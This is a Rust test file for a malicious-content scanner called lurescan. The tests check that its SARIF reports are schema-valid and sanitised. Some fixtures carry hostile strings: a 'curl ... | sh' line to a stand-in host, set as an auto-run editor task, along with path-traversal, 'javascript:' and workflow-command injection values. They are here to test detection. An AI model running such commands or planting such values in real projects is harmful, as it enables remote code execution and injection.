//! SARIF is valid against the OASIS schema, and has what code scanning needs.

use serde_json::{Value, json};

use lurescan::finding::{Report, Severity, Verdict};
use lurescan::report::{Format, Style, escape, write, write_all};

use crate::built;

fn sarif(report: &Report) -> Value {
    let mut out = Vec::new();
    write(report, Format::Sarif, &Style::default(), &mut out).expect("memory takes it all");
    serde_json::from_slice(&out).expect("SARIF is JSON")
}

fn validator() -> jsonschema::Validator {
    let text = std::fs::read_to_string("tests/it/data/sarif-2.1.0.schema.json").expect("the schema is here");
    // The published pattern of `language`, which we do not write, has a bracket too many and is no regular expression.
    let text = text.replace("[a-zA-Z]{2}]?$", "[a-zA-Z]{2}$");
    let schema: Value = serde_json::from_str(&text).expect("the schema is JSON");
    jsonschema::options().should_validate_formats(true).build(&schema).expect("the schema is a schema")
}

fn each<'v>(value: &'v Value, pointer: &str) -> &'v Vec<Value> {
    value.pointer(pointer).and_then(Value::as_array).unwrap_or_else(|| panic!("{pointer} is no array"))
}

#[test]
fn every_report_is_valid_against_the_oasis_schema() {
    let validator = validator();
    for report in built::all() {
        let log = sarif(&report);
        let errors: Vec<String> =
            validator.iter_errors(&log).map(|e| format!("{e} at {}", e.instance_path())).collect();
        assert_eq!(errors, Vec::<String>::new(), "{}", report.target);
    }
}

#[test]
fn what_the_program_prints_for_the_tour_is_valid_and_has_its_traps() {
    let output = crate::hostile::lurescan().args(["scan", "samples/tour", "-f", "sarif"]).output().expect("it starts");
    assert_eq!(output.status.code(), Some(1));
    let log: Value = serde_json::from_slice(&output.stdout).expect("the log is JSON");
    let errors: Vec<String> = validator().iter_errors(&log).map(|e| format!("{}: {e}", e.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:#?}");
    let results = each(&log, "/runs/0/results");
    for rule in ["editor-autorun", "disguised-script", "offscreen-code"] {
        assert!(results.iter().any(|result| result["ruleId"] == rule), "{rule}");
    }
}

#[test]
fn the_schema_refuses_a_log_that_is_wrong() {
    let validator = validator();
    for (pointer, wrong) in [
        ("/runs/0/results/0/level", json!("fatal")),
        ("/runs/0/results/0/locations/0/physicalLocation/region/startLine", json!(0)),
        ("/runs/0/tool/driver/name", json!(null)),
    ] {
        let mut log = sarif(&built::block());
        *log.pointer_mut(pointer).expect("it is there") = wrong;
        assert!(!validator.is_valid(&log), "{pointer}");
    }
}

#[test]
fn code_scanning_finds_every_field_it_insists_on() {
    for report in built::all() {
        let log = sarif(&report);
        for rule in each(&log, "/runs/0/tool/driver/rules") {
            for text in ["/id", "/shortDescription/text", "/fullDescription/text", "/help/text"] {
                assert!(rule.pointer(text).and_then(Value::as_str).is_some_and(|t| !t.is_empty()), "{text} of {rule}");
            }
            assert!(rule.pointer("/properties/security-severity").is_some_and(Value::is_string), "{rule}");
            assert!(each(rule, "/properties/tags").len() <= 20);
        }
        let rules = each(&log, "/runs/0/tool/driver/rules").len() as u64;
        for result in each(&log, "/runs/0/results") {
            assert!(result["ruleIndex"].as_u64().is_some_and(|index| index < rules), "{result}");
            assert!(result["message"]["text"].as_str().is_some_and(|t| !t.is_empty()), "{result}");
            assert!(result["partialFingerprints"]["primaryLocationLineHash"].is_string(), "{result}");
            assert!(result.get("rank").is_none(), "{result}");
            let place = &result["locations"][0]["physicalLocation"];
            for field in ["startLine", "startColumn", "endLine", "endColumn"] {
                assert!(place["region"][field].as_u64().is_some_and(|n| n >= 1), "{field} of {result}");
            }
            let uri = place["artifactLocation"]["uri"].as_str().expect("a uri");
            assert!(!uri.is_empty() && !uri.starts_with('/') && !uri.contains(':'), "{uri}");
        }
    }
}

#[test]
fn a_finding_in_a_real_file_stands_at_its_line_and_has_its_chain() {
    let log = sarif(&built::block());
    let result = &log["runs"][0]["results"][0];
    assert_eq!(result["level"], "error");
    assert_eq!(
        result["locations"][0]["physicalLocation"],
        json!({
            "artifactLocation": {"uri": ".vscode/tasks.json", "uriBaseId": "TARGET", "index": 0},
            "region": {
                "startLine": 12, "startColumn": 20, "endLine": 12, "endColumn": 55,
                "snippet": {"text": "curl -s https://lure.invalid/x | sh"},
            },
        })
    );
    assert_eq!(
        result["message"]["text"],
        "The task `env` starts by itself and gives a file from the network to a shell. It would run as soon as the \
         folder is opened in an editor. It matches published tradecraft of Example Family (Example Labs, 2026-01-15)."
    );
    let steps = each(result, "/codeFlows/0/threadFlows/0/locations");
    assert_eq!(steps.len(), 2);
    assert_eq!(steps[0]["location"]["physicalLocation"]["region"]["startLine"], 8);
    assert_eq!(steps[0]["location"]["message"]["text"], ".vscode/tasks.json: VS Code task (folderOpen)");
    assert_eq!(log["runs"][0]["results"][2]["level"], "note");
}

#[test]
fn a_finding_inside_an_archive_stands_at_the_archive_and_names_the_member() {
    let log = sarif(&built::review());
    let result = &log["runs"][0]["results"][0];
    let primary = &result["locations"][0];
    assert_eq!(primary["physicalLocation"]["artifactLocation"]["uri"], "tool.zip");
    assert_eq!(
        primary["physicalLocation"]["region"],
        json!({"startLine": 1, "startColumn": 1, "endLine": 1, "endColumn": 2})
    );
    assert_eq!(primary["logicalLocations"][0]["fullyQualifiedName"], "tool.zip!/app/p.tgz!/package/i.js");
    assert_eq!(
        result["message"]["text"],
        "The program hides its meaning. It would run when the file is loaded (nothing was found that loads it). It \
         stands in [tool.zip!/app/p.tgz!/package/i.js:3:14](1)."
    );
    let inner = &result["relatedLocations"][0];
    assert_eq!(inner["id"], 1);
    assert_eq!(inner["physicalLocation"]["artifactLocation"], json!({"uri": "package/i.js", "index": 2}));
    assert_eq!(inner["physicalLocation"]["region"]["startLine"], 3);
    assert_eq!(inner["physicalLocation"]["region"]["byteOffset"], 100);
    let artifacts = each(&log, "/runs/0/artifacts");
    assert_eq!(artifacts.len(), 3);
    assert_eq!(artifacts[2]["parentIndex"], 1);
    assert_eq!(artifacts[1]["location"]["uri"], "app/p.tgz");
    assert_eq!(artifacts[0].get("parentIndex"), None);
    assert_eq!(artifacts[2]["hashes"]["sha-256"], "cd".repeat(32));
    assert_eq!(artifacts[2]["length"], 512);
}

#[test]
fn an_incomplete_scan_is_a_real_result_and_notifications() {
    let log = sarif(&built::incomplete());
    let results = each(&log, "/runs/0/results");
    assert_eq!(results.len(), 1);
    assert_eq!(results[0]["ruleId"], "scan-incomplete");
    assert_eq!(results[0]["level"], "warning");
    assert_eq!(
        results[0]["message"]["text"],
        "The scan is incomplete. Not read, and it matters: a.zip!/run.exe (encrypted), big.js (over the limit: size of \
         a text that is parsed), disk.iso (not supported: ISO 9660 image)."
    );
    assert_eq!(results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "a.zip");
    let invocation = &log["runs"][0]["invocations"][0];
    assert_eq!(invocation["executionSuccessful"], true);
    let notifications = each(invocation, "/toolExecutionNotifications");
    assert_eq!(notifications.len(), 15);
    assert_eq!(notifications[0]["descriptor"]["id"], "gap-encrypted");
    assert_eq!(notifications[0]["level"], "warning");
    assert_eq!(notifications[14]["level"], "note");
}

#[test]
fn a_clean_run_has_an_empty_list_of_results_and_is_valid() {
    let log = sarif(&built::pass());
    assert_eq!(log["runs"][0]["results"], json!([]));
    assert_eq!(log["runs"][0]["columnKind"], "unicodeCodePoints");
    assert!(validator().is_valid(&log));
}

#[test]
fn two_findings_of_one_fingerprint_stay_two_alerts() {
    let mut report = built::block();
    let again = report.findings[0].clone();
    report.findings.push(again);
    let log = sarif(&report);
    let hash = |at: usize| log["runs"][0]["results"][at]["partialFingerprints"]["primaryLocationLineHash"].clone();
    assert_eq!(hash(0), "00112233445566778899aabbccddeeff:1");
    let hashes: std::collections::HashSet<String> = (0..4).map(|at| hash(at).to_string()).collect();
    assert_eq!(hashes.len(), 4);
}

#[test]
fn text_of_the_target_is_no_link_and_no_placeholder() {
    assert_eq!(escape::sarif("[a](b) {0} {x} {12}y \\[z"), "\\[a\\](b) {{0}} {x} {{12}}y \\\\\\[z");
    let log = sarif(&built::hostile());
    let text = log["runs"][0]["results"][0]["message"]["text"].as_str().expect("text");
    assert!(text.contains("\\[link\\](https://lure.invalid) {{0}}"), "{text}");
}

#[test]
fn a_hostile_name_becomes_a_harmless_address() {
    let mut report = built::block();
    for (path, uri) in [
        ("/etc/passwd", "etc/passwd"),
        ("../../up", "%2E%2E/%2E%2E/up"),
        ("javascript:alert(1)", "javascript%3Aalert%281%29"),
        ("a b%c#d?e", "a%20b%25c%23d%3Fe"),
        ("é", "%C3%A9"),
    ] {
        report.findings = vec![built::finding("r", path, Severity::High, Verdict::Block)];
        let log = sarif(&report);
        assert_eq!(
            log["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], uri,
            "{path}"
        );
        assert_eq!(log["runs"][0]["artifacts"][0]["location"]["uri"], uri);
    }
}

#[test]
fn a_rule_of_the_user_gets_a_descriptor() {
    let mut report = built::pass();
    report.findings = vec![built::finding("my_own_rule", "f", Severity::Medium, Verdict::Review)];
    let log = sarif(&report);
    let index = log["runs"][0]["results"][0]["ruleIndex"].as_u64().expect("an index");
    assert_eq!(log["runs"][0]["tool"]["driver"]["rules"][index as usize]["id"], "my_own_rule");
    assert!(validator().is_valid(&log));
}

#[test]
fn more_results_than_a_log_can_hold_are_said_to_be_left_out() {
    let mut report = built::block();
    let one = report.findings[0].clone();
    report.findings = vec![one; 5_003];
    let log = sarif(&report);
    assert_eq!(each(&log, "/runs/0/results").len(), 5_000);
    let notes = each(&log, "/runs/0/invocations/0/toolExecutionNotifications");
    assert_eq!(notes[0]["message"]["text"], "3 more findings are not listed; the NDJSON record has them");
}

#[test]
fn several_targets_are_runs_of_one_log() {
    let mut out = Vec::new();
    write_all(&built::all(), Format::Sarif, &Style::default(), &mut out).expect("memory takes it all");
    let log: Value = serde_json::from_slice(&out).expect("JSON");
    assert_eq!(each(&log, "/runs").len(), 5);
    assert!(validator().is_valid(&log));
}

/// Numbers that look random and are the same every time (xorshift).
struct Dice(u64);

impl Dice {
    fn roll(&mut self, below: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % below.max(1) as u64) as usize
    }

    /// Text that breaks things: separators of locators, of URIs, of messages and of workflow commands.
    fn text(&mut self) -> String {
        const PARTS: &[&str] = &[
            "a",
            "src",
            "/",
            "//",
            "../",
            "./",
            "!/",
            "#gzip@0",
            "#base64@",
            "@",
            "0123456789ab",
            "@0123456789ab:ba9876543210",
            ":",
            "%",
            "%2e",
            "?",
            "#",
            " ",
            "[x](1)",
            "{0}",
            "\\",
            "::set-env",
            "\u{1b}[31m",
            "\u{202e}",
            "\0",
            "\n",
            "é",
            "日本",
            "\u{10ffff}",
            ".js",
            "C:\\x",
            "file:///etc",
            "<b>",
            "`",
            "\"",
            "'",
            "\u{feff}",
            "-",
            "…",
        ];
        (0..self.roll(7)).map(|_| PARTS[self.roll(PARTS.len())]).collect()
    }

    fn evidence(&mut self) -> lurescan::signal::Evidence {
        let start = self.roll(3) * self.roll(1 << 30);
        let excerpt = self.text();
        let end = start + if self.roll(2) == 0 { excerpt.len() } else { self.roll(500) };
        let (line, column) = (self.roll(3) as u32 * self.roll(1 << 20) as u32, self.roll(4) as u32);
        lurescan::signal::Evidence { span: start..end, line, column, label: self.text(), excerpt }
    }

    fn report(&mut self) -> Report {
        let all = built::all();
        let mut report = all[self.roll(all.len())].clone();
        report.target = self.text();
        for _ in 0..self.roll(6) {
            let rules = ["js-obfuscated", "editor-autorun", "my_own_rule", "known-indicator"];
            let severity = [Severity::Info, Severity::Low, Severity::Medium, Severity::High, Severity::Critical];
            let path = self.text();
            let mut finding = built::finding(rules[self.roll(4)], &path, severity[self.roll(5)], Verdict::Review);
            finding.root_path = if self.roll(2) == 0 { path.clone() } else { self.text() };
            finding.locator = match self.roll(4) {
                0 => path.clone(),
                1 => format!("{path}@0123456789ab:ba9876543210"),
                2 => format!("{}!/{path}", finding.root_path),
                _ => self.text(),
            };
            finding.message = self.text();
            finding.primary = self.evidence();
            finding.related = (0..self.roll(3)).map(|_| self.evidence()).collect();
            finding.content = if self.roll(2) == 0 { String::new() } else { "ab".repeat(16) };
            finding.chain = (0..self.roll(30)).map(|n| built::step(&self.text(), n as u32, &self.text())).collect();
            let depth = self.roll(4);
            finding.layers = (0..depth)
                .map(|_| lurescan::finding::Layer { locator: self.text(), length: 7, sha256: "cd".repeat(32) })
                .collect();
            if self.roll(4) == 0 {
                let (reason, source) = (self.text(), self.text());
                report.suppressed.push(lurescan::suppress::Suppressed { finding, reason, expires: None, source });
            } else {
                report.findings.push(finding);
            }
        }
        for _ in 0..self.roll(4) {
            let reason = lurescan::signal::GapReason::Malformed(self.text());
            report.gaps.push(built::gap(&self.text(), &self.text(), reason, self.roll(2) == 0));
        }
        report
    }
}

#[test]
fn whatever_a_report_holds_its_log_is_valid_and_code_scanning_takes_it() {
    use lurescan::report::sarif::Profile;
    let validator = validator();
    let mut dice = Dice(0x9e37_79b9_7f4a_7c15);
    for round in 0..400 {
        let report = dice.report();
        let profile = if round % 2 == 0 { Profile::Github } else { Profile::Full };
        let style = Style { profile, snippets: round % 3 != 0, ..Style::default() };
        let mut out = Vec::new();
        write(&report, Format::Sarif, &style, &mut out).expect("memory takes it all");
        let log: Value = serde_json::from_slice(&out).expect("JSON");
        let errors: Vec<String> =
            validator.iter_errors(&log).map(|e| format!("{e} at {}", e.instance_path())).collect();
        assert_eq!(errors, Vec::<String>::new(), "round {round}: {report:#?}");
        let results = each(&log, "/runs/0/results");
        let artifacts = log["runs"][0]["artifacts"].as_array().map_or(0, Vec::len) as u64;
        let mut hashes = std::collections::HashSet::new();
        for result in results {
            assert!(
                hashes.insert(result["partialFingerprints"]["primaryLocationLineHash"].to_string()),
                "round {round}"
            );
            assert!(result["message"]["text"].as_str().is_some_and(|text| !text.is_empty()), "round {round}");
            assert!(profile == Profile::Full || result.get("suppressions").is_none(), "round {round}");
            let flows = result["codeFlows"].as_array().map_or(&[][..], Vec::as_slice);
            let steps = flows.iter().flat_map(|flow| each(flow, "/threadFlows/0/locations"));
            let steps: Vec<&Value> = steps.map(|step| &step["location"]).collect();
            assert!(steps.len() <= 20, "round {round}");
            let related = result["relatedLocations"].as_array().map_or(&[][..], Vec::as_slice);
            for place in each(result, "/locations").iter().chain(related).chain(steps) {
                let uri = place["physicalLocation"]["artifactLocation"]["uri"].as_str().expect("a uri");
                assert!(
                    !uri.is_empty() && !uri.starts_with('/') && !uri.contains([':', '\\', ' ', '#']),
                    "{round}: {uri}"
                );
                assert!(!uri.split('/').any(|part| part == ".."), "{round}: {uri}");
                if let Some(index) = place["physicalLocation"]["artifactLocation"]["index"].as_u64() {
                    assert!(index < artifacts, "round {round}");
                }
                let region = &place["physicalLocation"]["region"];
                let number = |field: &str| region[field].as_u64().expect("a number");
                let begin = (number("startLine"), number("startColumn"));
                assert!(begin.0 >= 1 && begin.1 >= 1 && (number("endLine"), number("endColumn")) > begin, "{round}");
            }
        }
        let text = String::from_utf8(out).expect("UTF-8");
        assert!(!text.contains(['\u{1b}', '\u{202e}', '\0']), "round {round}");
        assert!(!text.lines().any(|line| line.trim_start().starts_with("::")), "round {round}");
        if !report.gaps.iter().any(|gap| gap.matters) {
            continue;
        }
        assert!(results.iter().any(|one| one["ruleId"] == "scan-incomplete"), "an unread thing must not close alerts");
    }
}

#[test]
fn a_log_for_code_scanning_stays_within_its_size() {
    use lurescan::report::sarif::Profile;
    let mut dice = Dice(77);
    let mut report = built::block();
    let one = report.findings[0].clone();
    report.findings = (0..5_000)
        .map(|n| {
            let mut finding = one.clone();
            // Text that cannot be packed.
            let noise = |dice: &mut Dice| (0..400).map(|_| char::from(33 + dice.roll(90) as u8)).collect::<String>();
            finding.message = noise(&mut dice);
            finding.path = format!("{n}/{}", noise(&mut dice));
            finding.locator.clone_from(&finding.path);
            finding.related = (0..8).map(|_| built::evidence(1, 1, &noise(&mut dice))).collect();
            finding
        })
        .collect();
    let size = |profile: Profile| {
        let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        let style = Style { profile, ..Style::default() };
        write(&report, Format::Sarif, &style, &mut packer).expect("memory takes it all");
        packer.finish().expect("packed").len()
    };
    assert!(size(Profile::Full) > 10_000_000);
    assert!(size(Profile::Github) < 10_000_000);
}
